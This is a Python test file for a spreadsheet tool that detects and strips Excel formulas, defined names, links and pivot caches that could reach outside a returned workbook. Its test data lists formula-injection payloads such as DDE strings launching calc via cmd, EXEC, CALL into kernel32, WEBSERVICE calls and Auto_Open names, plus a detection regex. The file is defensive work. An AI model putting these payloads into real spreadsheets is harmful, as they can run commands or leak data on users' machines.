"""What of a unit's file reaches outside does not come back to it, whatever way it stands in the file."""

from __future__ import annotations

import random
import re
import zipfile
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any
from xml.etree import ElementTree as ET
from xml.sax.saxutils import escape

import pytest
from msgspec.structs import replace

from danvan_xl import read_workbook
from danvan_xl.intake.source import take
from danvan_xl.model import layout
from danvan_xl.wording import LANGS
from danvan_xl.workbooks.returned.live import MOST_FINDINGS, Taken, with_taken
from danvan_xl.workbooks.returned.original import Original
from danvan_xl.workbooks.returned.outside import inside
from danvan_xl.workbooks.returned.writer import Returned
from tests.support.libreoffice import convert
from tests.support.returned import write_returned
from tests.workbooks.unit_files import UNIT, Places, a_round, filled, open_book, read

SHEET = "xl/worksheets/sheet8.xml"
"""The part of the sheet ``Nháp`` that a unit has added."""

OUTSIDE = (
    '_xlfn.WEBSERVICE("http://x.example/?"&A1)', 'webservice ("http://x.example")',
    '_xlfn.IMAGE("http://x.example/a.png")',
    'RTD("a.b","","c")', 'CALL("kernel32","Sleep","JJ",1)', '_xlfn.REGISTER.ID("k","f")', 'REGISTER.ID("k","f")',
    'HYPERLINK("\\\\server\\a.xlsx","xem")', 'HYPERLINK(A1,"xem")', 'HYPERLINK("#"&A1)', 'HYPERLINK("file:///c:/a")',
    "cmd|'/c calc'!A0", "Excel|S!R1C1", "'cmd|/c calc'!A0", "winword|'C:\\a.doc'!x",
    'DDE("soffice","a.ods","A1")',
    "[1]Sheet1!A1+1", "SUM('[1]Trang 1'!A1:B2)", "[1]!ten", "[b.xlsx]S!A1",
    "'C:\\x\\[b.xlsx]S'!A1", "C:\\x\\[b.xlsx]S!A1",
    "'http://x.example/[b.xlsx]S'!A1", "b.xlsx!ten", "'b.xlsx'!ten", "'\\\\s\\x\\b.xlsx'!Bang[Cot]", "[1]!Bang[Cot]",
    "SUM([1]Sheet1:Sheet3!A1)", "'[1]a:b'!A1", "'file:///C:/x.ods'#$S.A1", 'INDIRECT("[b.xlsx]S!A1")', "INDIRECT(A1)",
    '_xlfn.FILTERXML(A1,"//a")', 'CUBEVALUE("c","m")', 'CUBEMEMBER("c","m")', 'SQL.REQUEST("d",1,2,"s")',
    'EXEC("calc")',
    '_xlfn.STOCKHISTORY("VNM",1)', '_xlfn._xlws.PY("1",0)', '_xlfn.TRANSLATE("a","vi","en")', "_xll.HAM(1)",
    "ham_la(1)",
    '__xludf.DUMMYFUNCTION("IMPORTXML(1)")', 'IMPORTRANGE("https://x","A1")', '_xlfn.COPILOT("a")', "b.xlam!ham(1)",
    '"a_x0022_&WEBSERVICE(_x0022_http://x_x0022_)&_x0022_"', "WEB_x0053_ERVICE(A1)", "_xlfn._xlfn.WEBSERVICE(A1)",
    'N("[ghi chú]")+WEBSERVICE("http://x")', "IF(1,\n\tWEBSERVICE\n(A1))", "'a\"b'!A1&WEBSERVICE(\"http://x\")",
    "_xlfn.MAP(A1:A2,_xleta.WEBSERVICE)", "Bang[Cot]&[1]S!A1", "Bang[a]![1]", "EVALUATE(A1)", 'INFO("directory")',
    "_xlpm.f(1)", "_xlfn.LET(_xlpm.x,WEBSERVICE(A1),_xlpm.x)", "#REF!|a!b", "A1\u00a0+1", "Nháp!A1+Khác!A1",
)  # fmt: skip

WITHIN = (
    "1+1", "", "SUM(A1:A3)*1.5E-3", "$A$1:$B$2", "A:A", "$1:$2", "-.5%", "VLOOKUP(A1,Nháp!$A$1:$B$9,2,FALSE)",
    "'Phụ lục I'!A1&\"[1]S!A1 cmd|'/c'!A0 WEBSERVICE(1)\"", "SUM('Phụ lục I:Phụ lục II'!A1)", "SUM(Nháp:Khác2!A1)",
    "IFERROR(_xlfn.XLOOKUP(A1,B:B,C:C),#N/A)", "_xlfn._xlws.FILTER(A1:A3,A1:A3>1)", "_xlfn.STDEV.S(A1:A3)",
    "Bang[Cot]", "Bang[[#This Row],[Số ']lạ]]+1", "SUM(Bang[[#All],[a]:[b]])", "tong+Tong", "Nháp!tong",
    "_xlfn.LET(_xlpm.x,1,_xlpm.x+1)", "_xlfn.LAMBDA(_xlpm.x,_xlpm.x)(1)", "{1,2;\"a\",TRUE}", "#REF!A1+Nháp!#REF!",
    'HYPERLINK("#Nháp!A1","về")', 'IF(A1="x""y[1]","có","không")', "_xlfn.SINGLE(A1)+@A1", "N(\"ghi chú\")+1",
    "IF(A1,_x000D_\n2,3)",
)  # fmt: skip

OWN = inside(
    ("Nháp", "Khác2", "Phụ lục I", "Phụ lục II", 'a"b'), ("Bang",), {"tong": ("Nháp!$A$1",), "ten": ("[1]S!A1",)}
)


@pytest.mark.parametrize("formula", OUTSIDE)
def test_what_may_reach_outside_is_known(formula: str) -> None:
    assert OWN.reach(formula) is not None
    assert OWN.reach(f"={formula}") is not None
    assert OWN.reach(f"IF(A1,{formula})") is not None


@pytest.mark.parametrize("formula", WITHIN)
def test_what_stays_inside_is_known(formula: str) -> None:
    assert OWN.reach(formula) is None


def test_a_name_that_reaches_outside_through_others_is_none_of_the_workbooks() -> None:
    names = {
        "a": ("b+1",),
        "b": ("c",),
        "c": ("[1]S!A1",),
        "d": ("1",),
        **{f"e{i}x": (f"e{i + 1}x",) for i in range(50)},
    }
    own = inside(("S",), (), names)
    assert own.names == set()
    assert inside(("S",), (), {"a": ("b",), "b": ("1",), "c": ("[1]S!A1",)}).names == {"a", "b"}


# ---- whole files -----------------------------------------------------------------------------------------

Change = tuple[str, str]
"""What of a part is replaced by what; an empty first half is the whole of a new part."""


def spoiled(folder: Path, changes: Mapping[str, Change], cells: str = "") -> Path:
    """A sound file with a sheet ``Nháp`` of the unit's that holds ``cells``, changed in its XML as told."""
    source = filled(folder / "a.xlsx")
    book = open_book(source)
    book.create_sheet("Nháp")["A1"] = 5
    book.save(source)
    with zipfile.ZipFile(source) as archive:
        parts = {
            name: archive.read(name).decode("utf-8") for name in archive.namelist() if name.endswith(("xml", "rels"))
        }
    assert "<v>5</v>" in parts[SHEET]
    all_changes = [(SHEET, ("</sheetData>", f'<row r="20">{cells}</row></sheetData>')), *changes.items()]
    for name, (old, new) in all_changes:
        assert old in parts.get(name, ""), (name, old)
        parts[name] = parts[name].replace(old, new, 1) if old else new
    with zipfile.ZipFile(source, "w") as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return source


def given_back(source: Path) -> tuple[Returned, Path]:
    target = source.with_name("b.xlsx")
    done = write_returned(source, target, read(source), a_round())
    assert done.kind == "edited", done.reason
    return done, target


def part(path: Path, name: str) -> str:
    with zipfile.ZipFile(path) as archive:
        return archive.read(name).decode("utf-8")


TAGS = {"f", "formula", "formula1", "formula2", "definedName", "calculatedColumnFormula", "totalsRowFormula"}


def formulas(path: Path) -> Iterator[str]:
    """Every formula of every part, read without the program under test; every part is well-formed XML."""
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.endswith((".xml", ".rels", ".vml")):
                root = ET.fromstring(archive.read(name))
                assert all(node.get("TargetMode") != "External" for node in root.iter()), name
                yield from (node.text or "" for node in root.iter() if node.tag.rpartition("}")[2] in TAGS)
                yield from (node.get("val", "") for node in root.iter() if node.tag.endswith("}cfvo"))


LIVE = re.compile(
    r"WEBSERVICE|IMAGE|RTD\b|CALL|REGISTER|DDE|CUBE|SQL|FILTERXML|INDIRECT|EXEC|IMPORT|STOCK|PY\(|_xll|ham|COPILOT"
    r"|EVALUATE|INFO|TRANSLATE|https?:|file:|\\|\||\[\d+\]|\[b\.|b\.xl|_x00|_xleta",
    re.IGNORECASE,
)


def nothing_live(path: Path) -> None:
    """An independent look: texts are taken away from every formula, then nothing of the vocabulary is left."""
    for formula in formulas(path):
        bare = re.sub(r'"(?:[^"]|"")*"', '""', formula)
        assert not LIVE.search(bare), formula
        assert "HYPERLINK" not in bare.upper() or '"#' in formula, formula


def cell(address: str, formula: str, value: str = "7", more: str = "", kind: str = "") -> str:
    return f'<c r="{address}"{kind}><f{more}>{escape(formula)}</f><v>{value}</v></c>'


@pytest.mark.parametrize("start", range(0, len(OUTSIDE), 20))
def test_formulas_become_their_results_and_are_listed(tmp_path: Path, start: int) -> None:
    some = OUTSIDE[start : start + 20]
    letters = [chr(ord("B") + number) for number in range(len(some))]
    cells = "".join(cell(f"{letter}20", formula) for letter, formula in zip(letters, some, strict=True))
    done, target = given_back(spoiled(tmp_path, {}, cells))
    nothing_live(target)
    book = open_book(target)
    assert [book["Nháp"][f"{letter}20"].value for letter in letters] == [7] * len(some)
    words = [str(cell.value) for row in book[layout.ERRORS_SHEET].iter_rows() for cell in row]
    assert any(f"{len(some)} công thức có thể lấy dữ liệu ngoài tệp" in item for item in words)
    assert any(item.startswith("Công thức trong ô có thể lấy dữ liệu ngoài tệp") for item in words)
    assert book["Nháp"]["B20"].comment is not None
    assert any("Nháp!B20" in item for item in done.lost)


def test_results_keep_their_kinds_and_text_stays_text(tmp_path: Path) -> None:
    call = 'WEBSERVICE("http://x")'
    cells = (
        cell("B20", call, "=1+1", kind=' t="str"') + cell("C20", call, "1", kind=' t="b"')
        + cell("D20", call, "#N/A", kind=' t="e"') + cell("E20", call, "2.5") + f'<c r="F20"><f>{escape(call)}</f></c>'
        + cell("G20", call, "", kind=' t="str"') + cell("H20", call, "_xFFFF_ a", kind=' t="str"')
    )  # fmt: skip
    source = spoiled(tmp_path, {}, cells)
    _, target = given_back(source)
    nothing_live(target)
    sheet = open_book(target)["Nháp"]
    assert [sheet[f"{letter}20"].value for letter in "BCDEFG"] == ["=1+1", True, "#N/A", 2.5, None, None]
    assert (sheet["B20"].data_type, sheet["B20"].quotePrefix) == ("s", True)
    before, after = read_workbook(source), read_workbook(target)
    assert [dict(item.errors) for item in after.sheets if item.name == "Nháp"] == [
        dict(item.errors) for item in before.sheets if item.name == "Nháp"
    ]


def test_array_shared_and_table_formulas(tmp_path: Path) -> None:
    cells = (
        cell("B20", "_xlfn.WEBSERVICE(A1:A2)", "1", ' t="array" ref="B20:B21"')
        + cell("C20", "[1]S!A1", "2", ' t="shared" ref="C20:D20" si="0"')
        + '<c r="D20"><f t="shared" si="0"/><v>3</v></c>'
        + '<c r="E20"><f t="dataTable" ref="E20:E21" dt2D="0" dtr="0" r1="[1]S!A1"/><v>4</v></c>'
        + '<c r="F20"><f t="dataTable" ref="F20:F21" dt2D="0" dtr="0" r1="A1"/><v>5</v></c>'
        + cell("G20", "SUM(A1:A2)", "5", ' t="array" ref="G20"')
    )
    _, target = given_back(spoiled(tmp_path, {}, cells))
    nothing_live(target)
    xml = part(target, "xl/worksheets/sheet9.xml")
    assert xml.count("<f") == 2
    assert 'r1="A1"' in xml
    assert "[1]" not in xml
    sheet = open_book(target)["Nháp"]
    assert [sheet[f"{letter}20"].value for letter in "BCDE"] == [1, 2, 3, 4]


RULES = (
    '<conditionalFormatting sqref="B2:B5"><cfRule type="expression" priority="1"><formula>{0}</formula></cfRule>'
    '<cfRule type="expression" priority="2"><formula>A1=5</formula></cfRule></conditionalFormatting>'
    '<conditionalFormatting sqref="C2:C5"><cfRule type="colorScale" priority="3"><colorScale><cfvo type="min"/>'
    '<cfvo type="formula" val="{0}"/><color rgb="FF00FF00"/><color rgb="FFFF0000"/></colorScale></cfRule>'
    '</conditionalFormatting><dataValidations count="2"><dataValidation type="custom" sqref="D2:D9"><formula1>{0}'
    '</formula1></dataValidation><dataValidation type="whole" operator="between" sqref="E2"><formula1>1</formula1>'
    "<formula2>A1</formula2></dataValidation></dataValidations>"
)


@pytest.mark.parametrize("formula", ["WEBSERVICE(A1)", "[1]S!$A$1", "cmd|'/c'!A0", "ngoai", "'C:\\[b.xlsx]S'!A1"])
def test_validations_and_conditional_formats_go_and_the_others_stay(tmp_path: Path, formula: str) -> None:
    names = '<definedNames><definedName name="ngoai">[1]S!$A$1</definedName>'
    changes = {
        SHEET: ("<pageMargins", RULES.format(escape(formula)) + "<pageMargins"),
        "xl/workbook.xml": ("<definedNames>", names),
    }
    done, target = given_back(spoiled(tmp_path, changes))
    nothing_live(target)
    sheet = open_book(target)["Nháp"]
    assert [str(item.sqref) for item in sheet.data_validations.dataValidation] == ["E2"]
    assert [rule.formula for area in sheet.conditional_formatting for rule in area.rules] == [["A1=5"]]
    said = " ".join(done.lost)
    assert "1 kiểm tra khi nhập" in said
    assert "2 định dạng có điều kiện" in said
    assert "(ngoai)" in said


NAMES = {
    "Auto_Open": "Nháp!$A$1", "auto_close1": "Nháp!$A$1", "_xlnm.Auto_Open": "Nháp!$A$1", "Workbook_Open": "1",
    "x": "cmd|'/c calc'!A0", "y": "EXEC(\"calc\")", "z": "[1]S!$A$1", "u": "x+1", "v": "GET.WORKBOOK(1)",
}  # fmt: skip


def test_names_that_run_or_reach_outside_go_with_the_formulas_that_use_them(tmp_path: Path) -> None:
    defined = "".join(f'<definedName name="{name}">{escape(formula)}</definedName>' for name, formula in NAMES.items())
    more = (
        '<definedName name="ham" function="1" vbProcedure="1">Nháp!$A$1</definedName>'
        '<definedName name="cua_trang" localSheetId="5">[1]S!$A$1</definedName>'
        '<definedName name="tong">Nháp!$A$1</definedName>'
    )
    cells = cell("B20", "u+1") + cell("C20", "tong+1", "6") + cell("D20", "cua_trang")
    changes = {"xl/workbook.xml": ("<definedNames>", f"<definedNames>{defined}{more}")}
    done, target = given_back(spoiled(tmp_path, changes, cells))
    nothing_live(target)
    kept = re.findall(r'<definedName name="([^"]*)"', part(target, "xl/workbook.xml"))
    assert [name for name in kept if not name.startswith("_xlnm.")] == ["tong"]
    assert "_xlnm.Auto_Open" not in kept
    sheet = open_book(target)["Nháp"]
    assert [sheet[f"{letter}20"].value for letter in "BCD"] == [7, "=tong+1", 7]
    assert any(item.startswith(f"{len(NAMES) + 2} tên đặt") for item in done.lost)


REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
LINKS = (
    f'<hyperlinks xmlns:r="{REL}"><hyperlink ref="A1" r:id="rId91"/><hyperlink ref="A2" r:id="rId92" location="S!A1"/>'
    '<hyperlink ref="B20" location="Nháp!A1"/><hyperlink ref="C20" location="[b.xlsx]S!A1"/></hyperlinks>'
)


@pytest.mark.parametrize(
    "address", ["file:///c:/a.exe", "\\\\server\\a.xlsx", "http://x.example/", "mailto:a@b.example"]
)
def test_links_of_cells_to_elsewhere_go_and_their_words_stay(tmp_path: Path, address: str) -> None:
    both = "".join(
        f'<Relationship Id="rId9{n}" Type="{REL}/hyperlink" Target="{address}" TargetMode="External"/>' for n in (1, 2)
    )
    relations = (
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{both}</Relationships>'
    )
    changes = {
        SHEET: ("<pageMargins", f"{LINKS}<pageMargins"),
        "xl/worksheets/_rels/sheet8.xml.rels": ("", relations),
    }
    words = '<c r="B20"><v>1</v></c><c r="C20"><v>2</v></c>'
    done, target = given_back(spoiled(tmp_path, changes, words))
    nothing_live(target)
    sheet = open_book(target)["Nháp"]
    assert [sheet[place].value for place in ("A1", "B20", "C20")] == [5, 1, 2]
    assert sheet["B20"].hyperlink.location == "Nháp!A1"
    assert sheet["A2"].value is None
    assert [sheet[place].hyperlink for place in ("A1", "A2", "C20")] == [None] * 3
    assert any(item.startswith("3 liên kết tới tệp") for item in done.lost)


def test_columns_of_tables_and_charts(tmp_path: Path) -> None:
    from openpyxl.chart import BarChart, Reference
    from openpyxl.worksheet.table import Table, TableFormula

    source = filled(tmp_path / "a.xlsx")
    book = open_book(source)
    sheet: Any = book.create_sheet("Nháp")
    for row in (["Một", "Hai"], [1, 2], [3, 4]):
        sheet.append(row)
    table = Table(displayName="Bang", ref="A1:B3")
    table._initialise_columns()
    for column, name in zip(table.tableColumns, ("Một", "Hai"), strict=True):
        column.name = name
    table.tableColumns[1].calculatedColumnFormula = TableFormula(attr_text="[1]S!$A$1")
    sheet.add_table(table)
    for column in (1, 2):
        chart = BarChart()
        chart.add_data(Reference(sheet, min_col=column, min_row=2, max_row=3))
        sheet.add_chart(chart, f"D{column * 20}")
    sheet["C2"] = "=SUM(Bang[Hai])"
    book.save(source)
    with zipfile.ZipFile(source) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    parts["xl/charts/chart2.xml"] = re.sub(rb"<f>[^<]*</f>", b"<f>[1]S!$A$1:$A$2</f>", parts["xl/charts/chart2.xml"])
    with zipfile.ZipFile(source, "w") as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    done, target = given_back(source)
    nothing_live(target)
    after: Any = open_book(target)["Nháp"]
    assert len(after._charts) == 1
    assert after["C2"].value == "=SUM(Bang[Hai])"
    assert any(item.startswith("1 biểu đồ") for item in done.lost)
    assert any(item.startswith("1 công thức của cột") for item in done.lost)


def test_characters_that_xml_does_not_have_break_nothing(tmp_path: Path) -> None:
    from openpyxl.worksheet.table import Table

    source = filled(tmp_path / "a.xlsx", {("PL1.I.1@VHXH", "Trạng thái"): "_xFFFF_ xong _xD800_ _x0001_ _xFFFE_"})
    book = open_book(source)
    book["Phụ lục II"].oddHeader.center.text = "Trang_1"
    Places(book).cell("Phụ lục II", "+1@VHXH", "Nhiệm vụ cụ thể").value = "Việc _xFFFF_ riêng _x0001_"
    Places(book).cell("Phụ lục II", "+1@VHXH", "Trạng thái").value = "_xFFFE_lạ"
    sheet: Any = book.create_sheet("Nháp")
    for row in (["Một", "Hai"], [1, 2]):
        sheet.append(row)
    sheet.add_table(Table(displayName="Bang", ref="A1:B2"))
    book.save(source)
    with zipfile.ZipFile(source) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    for name, content in parts.items():
        if name.startswith("xl/tables/") or name in (SHEET, "xl/sharedStrings.xml"):
            parts[name] = re.sub('(?<=[">])(?:Một|M&#7897;t)(?=["<])'.encode(), b"M_xFFFF_", content)
        parts[name] = parts[name].replace(b"Trang_1", b"_xFFFF_Trang_xD800_")
    with zipfile.ZipFile(source, "w") as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    _, target = given_back(source)
    nothing_live(target)
    assert 'name="M_xFFFF_"' in part(target, "xl/tables/table1.xml")
    with zipfile.ZipFile(target) as archive:
        assert any(b"_xFFFF_Trang_xD800_" in archive.read(name) for name in archive.namelist())
    fresh = source.with_name("c.xlsx")
    write_returned(source, fresh, replace(read(source), sha256="0" * 64), a_round())
    nothing_live(fresh)
    for path in (target, fresh):
        assert {item.code for item in read(path).findings} >= {"V001"} & {item.code for item in read(source).findings}


def test_what_looks_like_a_code_and_was_typed_comes_back_as_typed_in_a_fresh_template(tmp_path: Path) -> None:
    typed = "mã _x0041_ và _xFFFF_"
    source = filled(tmp_path / "a.xlsx", {("PL1.I.1@VHXH", "Kết quả thực hiện"): typed.replace("_x", "_x005F_x")})
    first = read(source)
    assert any(typed in item.values.values() for item in first.answers)
    write_returned(source, tmp_path / "b.xlsx", replace(first, sha256="0" * 64), a_round())
    assert any(typed in item.values.values() for item in read(tmp_path / "b.xlsx").answers)


def test_templates_lose_nothing(tmp_path: Path) -> None:
    from danvan_xl.workbooks.template.writer import write_template

    for unit in (a_round().plan.unit(name) for name in (UNIT, "VP", "CA")):
        write_template(tmp_path / "a.xlsx", a_round(), unit)
        original = Original(take(str(tmp_path / "a.xlsx")).data)
        assert (original.taken, original.lost) == ((), ())


# ---- any formula -----------------------------------------------------------------------------------------

ATOMS = ("A1", "$A$1:B2", "1", '"a"', '"http://x"', "Nháp!A1", "'Phụ lục I'!B2", "TRUE", "#N/A", '"[1]S!A1"', "tong")
CALLS = ("SUM({})", "IF({},1,2)", "_xlfn.CONCAT({})", "sum ({})", "N({})", "-({})", '({})&"x"', "{}+1", "{{1,2}}&{}")
LEAKS = (*OUTSIDE, "ngoai")


def a_formula(rng: random.Random) -> tuple[str, bool]:
    """A formula from the vocabulary, and whether it holds one that reaches outside."""
    live = rng.random() < 0.5
    formula = rng.choice(LEAKS if live else ATOMS)
    for _ in range(rng.randrange(4)):
        formula = rng.choice(CALLS).format(formula)
        if rng.random() < 0.4:
            formula = f"{formula}{rng.choice('+-*/&=<,')}{rng.choice(ATOMS)}"
    return formula, live


@pytest.mark.libreoffice
def test_no_formula_of_any_file_reaches_outside_and_every_value_is_as_it_was(tmp_path: Path) -> None:
    for seed in range(4):
        rng, folder = random.Random(seed), tmp_path / str(seed)
        folder.mkdir()
        made = [a_formula(rng) for _ in range(60)]
        cells = "".join(cell(f"{letters(number)}20", formula, str(number)) for number, (formula, _) in enumerate(made))
        names = (
            '<definedNames><definedName name="ngoai">[1]S!$A$1</definedName>'
            '<definedName name="tong">Nháp!$A$1</definedName>'
        )
        source = spoiled(folder, {"xl/workbook.xml": ("<definedNames>", names)}, cells)
        _, target = given_back(source)
        nothing_live(target)
        before, after = read_workbook(source), read_workbook(target)
        for sheet in before.sheets:
            other = next(item for item in after.sheets if item.name == sheet.name)
            if sheet.name != layout.IDENTITY_SHEET:
                assert [row.values for row in other.rows] == [row.values for row in sheet.rows]
        book = open_book(target)["Nháp"]
        for number, (formula, live) in enumerate(made):
            assert (book[f"{letters(number)}20"].data_type == "f") is not live, formula
    assert convert(target, "xlsx", tmp_path).is_file()


def letters(number: int) -> str:
    from danvan_xl.model.addresses import column_letters

    return column_letters(number + 2)


@pytest.mark.parametrize("lang", LANGS)
def test_what_was_taken_is_told_in_both_languages(tmp_path: Path, lang: Any) -> None:
    source = spoiled(tmp_path, {}, cell("B20", "WEBSERVICE(A1)"))
    done = write_returned(source, tmp_path / "b.xlsx", read(source), a_round(), lang)
    assert "Nháp!B20" in done.lost[-1]
    assert done.lost[-1].startswith("1 công thức" if lang == "vi" else "1 formulas")


def test_a_file_that_was_given_back_and_comes_again_has_nothing_more_to_lose(tmp_path: Path) -> None:
    source = spoiled(tmp_path, {}, cell("B20", "WEBSERVICE(A1)"))
    _, target = given_back(source)
    again = tmp_path / "c.xlsx"
    done = write_returned(target, again, read(target), a_round())
    assert (done.kind, done.lost) == ("edited", ())
    sheet = open_book(again)["Nháp"]
    assert (sheet["B20"].value, sheet["B20"].comment) == (7, None)
    assert "S052" not in {item.code for item in read(target).findings}


@pytest.mark.libreoffice
def test_a_template_that_another_office_program_saved_loses_nothing(tmp_path: Path) -> None:
    saved = convert(filled(tmp_path / "a.xlsx"), "xlsx", tmp_path)
    assert Original(take(str(saved)).data).taken == ()


MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
CACHE = (
    f'<pivotCacheDefinition {MAIN} refreshOnLoad="1" recordCount="0">{{source}}<cacheFields count="1">'
    '<cacheField name="a"><sharedItems/></cacheField></cacheFields></pivotCacheDefinition>'
)
PIVOT = (
    f'<pivotTableDefinition {MAIN} name="P" cacheId="7" dataCaption="d"><location ref="A1:B3" firstHeaderRow="1" '
    'firstDataRow="1" firstDataCol="0"/><pivotFields count="1"><pivotField showAll="0"/></pivotFields>'
    "</pivotTableDefinition>"
)


def relations(identity: str, kind: str, target: str) -> str:
    inner = f'<Relationship Id="{identity}" Type="{REL}/{kind}" Target="{target}"/>'
    return (
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{inner}</Relationships>'
    )


@pytest.mark.parametrize(
    ("source", "kept"),
    [
        ('<cacheSource type="worksheet"><worksheetSource ref="A1:A3" sheet="Nháp"/></cacheSource>', True),
        ('<cacheSource type="worksheet"><worksheetSource ref="A1:A3" sheet="Khác"/></cacheSource>', False),
        ('<cacheSource type="worksheet"><worksheetSource name="khong_co"/></cacheSource>', False),
        ('<cacheSource type="external" connectionId="1"/>', False),
    ],
)
def test_pivot_tables_that_draw_on_something_else_go(tmp_path: Path, source: str, kept: bool) -> None:
    reference = f'<pivotCaches><pivotCache xmlns:r="{REL}" cacheId="7" r:id="rId77"/></pivotCaches>'
    link = f'<Relationship Id="rId77" Type="{REL}/pivotCacheDefinition" Target="pivotCache/pivotCacheDefinition1.xml"/>'
    changes = {
        "xl/workbook.xml": ("</workbook>", f"{reference}</workbook>"),
        "xl/_rels/workbook.xml.rels": ("</Relationships>", f"{link}</Relationships>"),
        "xl/worksheets/_rels/sheet8.xml.rels": ("", relations("rId1", "pivotTable", "/xl/pivotTables/pivotTable1.xml")),
        "xl/pivotTables/pivotTable1.xml": ("", PIVOT),
        "xl/pivotTables/_rels/pivotTable1.xml.rels": (
            "", relations("rId1", "pivotCacheDefinition", "/xl/pivotCache/pivotCacheDefinition1.xml")
        ),
        "xl/pivotCache/pivotCacheDefinition1.xml": ("", CACHE.format(source=source)),
    }  # fmt: skip
    done, target = given_back(spoiled(tmp_path, changes))
    with zipfile.ZipFile(target) as archive:
        assert any("pivot" in name for name in archive.namelist()) is kept
    assert any("PivotTable" in item for item in done.lost) is not kept


@pytest.mark.parametrize(("count", "more"), [(3, None), (MOST_FINDINGS, None), (MOST_FINDINGS + 50, "50")])
def test_places_that_are_not_listed_are_counted(count: int, more: str | None) -> None:
    taken = [Taken("formulas", "Nháp", f"B{row}") for row in range(1, count + 1)]
    found = with_taken((), taken)
    assert [item.found for item in found if item.code == "N016"] == ([more] if more else [])
    assert sum(item.code == "S052" for item in found) == min(count, MOST_FINDINGS)
